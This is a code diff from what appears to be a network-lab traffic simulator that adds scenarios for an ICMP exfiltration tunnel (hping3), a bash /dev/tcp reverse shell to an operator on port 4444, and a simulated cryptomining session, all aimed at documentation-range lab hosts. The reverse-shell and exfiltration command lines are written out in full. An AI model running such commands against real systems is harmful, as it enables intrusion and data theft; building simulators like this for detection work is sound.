@@ -56,6 +56,23 @@ export interface ScenarioSpec {
 /** The far end of the iodine tunnel and its zone (the lab resolver forwards the zone to it). */
 export const TUNNEL_SERVER: LabHost = { id: 'o-tunnel', ip: '203.0.113.53', role: 'outside' };
 export const TUNNEL_ZONE = 't.corp-tunnel.example';
+/** Far ends of the implant scenarios (ICMP tunnel, reverse shell, mining pool). */
+export const ICMP_PEER: LabHost = { id: 'o-icmp', ip: '203.0.113.70', role: 'outside' };
+export const SHELL_OPERATOR: LabHost = { id: 'o-shell', ip: '203.0.113.71', role: 'outside' };
+export const MINING_POOL: LabHost = { id: 'o-pool', ip: '203.0.113.72', role: 'outside' };
+/** Commands the reverse shell runs (the operator daemon sends only these; the shell refuses others). */
+const SHELL_COMMANDS = [
+  'id',
+  'whoami',
+  'hostname',
+  'uname -a',
+  'ls /',
+  'ls /etc',
+  'cat /etc/os-release',
+  'ip addr',
+  'df -h',
+  'ps ax',
+];
 
 const attacker = (id: string, n: number): LabHost => ({ id, ip: `198.51.100.${n}`, role: 'attacker' });
 const insider = (id: string, n: number): LabHost => ({ id, ip: `192.0.2.${n}`, role: 'insider' });
@@ -378,6 +395,73 @@ export const SCENARIOS: ScenarioSpec[] = [
       }
       return lines(...cmds);
     },
+  },
+  {
+    name: 'icmp-tunnel',
+    tool: 'hping3',
+    needs: ['hping3'],
+    attacker: insider('i-icmp', 154),
+    peer: ICMP_PEER,
+    victims: [ICMP_PEER.ip],
+    ports: 'icmp',
+    description:
+      'ICMP tunnel / exfiltration: 120 echo requests carrying a random file as 400-byte payloads to an outside host (hping3 -E)',
+    span: 'slot',
+    background: 'light',
+    maxSeconds: 45,
+    script: (c) =>
+      lines(
+        `head -c 48000 /dev/urandom > ${c.dir}/chunk.bin`,
+        `timeout ${Math.max(3, Math.floor(c.limit - 1))} hping3 --icmp -c 120 -i u${Math.round(Math.max(0.05, Math.min(0.3, (c.limit - 2) / 120)) * 1e6)} -d 400 -E ${c.dir}/chunk.bin ${ICMP_PEER.ip} > ${c.dir}/hping3.log 2>&1 || true`,
+      ),
+  },
+  {
+    name: 'reverse-shell',
+    tool: 'bash',
+    needs: ['bash'],
+    attacker: insider('i-shell', 155),
+    peer: SHELL_OPERATOR,
+    victims: [SHELL_OPERATOR.ip],
+    ports: '4444',
+    description:
+      'reverse shell: an implant connects out to an operator on port 4444 (bash /dev/tcp) and runs ~20 harmless commands typed seconds apart',
+    span: 'slot',
+    background: 'light',
+    maxSeconds: 60,
+    script: (c) => {
+      const allowed = SHELL_COMMANDS.map((x) => `"${x}"`).join('|');
+      return lines(
+        `cd ${c.dir}`,
+        `ip netns exec ${nsName(SHELL_OPERATOR)} ${process.execPath} ${join(DAEMONS, 'shell-operator.mjs')} ${SHELL_OPERATOR.ip} 4444 ${c.seed} 20 > operator.log 2>&1 &`,
+        'sleep 1',
+        `timeout ${Math.max(3, Math.floor(c.limit - 2))} bash -c 'exec 3<>/dev/tcp/${SHELL_OPERATOR.ip}/4444 || exit 0; while IFS= read -r c <&3; do case "$c" in ${allowed}) $c >&3 2>&1 ;; *) break ;; esac; done' || true`,
+        'kill $(jobs -p) 2>/dev/null',
+        'wait',
+      );
+    },
+  },
+  {
+    name: 'mining',
+    tool: 'node',
+    needs: [], // the lab's own node runs both ends
+    attacker: insider('i-miner', 156),
+    peer: MINING_POOL,
+    victims: [MINING_POOL.ip],
+    ports: '3333',
+    description:
+      'cryptomining: one long-lived Stratum session to an outside pool on port 3333 (jobs pushed every 4-8 s, a share submitted every ~5 s)',
+    span: 'long',
+    background: 'light',
+    maxSeconds: 100_000,
+    script: (c) =>
+      lines(
+        `cd ${c.dir}`,
+        `ip netns exec ${nsName(MINING_POOL)} ${process.execPath} ${join(DAEMONS, 'stratum-pool.mjs')} ${MINING_POOL.ip} 3333 > pool.log 2>&1 &`,
+        'sleep 1',
+        `timeout ${Math.max(3, Math.floor(c.limit - 1))} ${process.execPath} ${join(DAEMONS, 'stratum-miner.mjs')} ${MINING_POOL.ip} 3333 ${Math.max(2, Math.floor(c.limit - 3))} || true`,
+        'kill $(jobs -p) 2>/dev/null',
+        'wait',
+      ),
   },
 ];
 
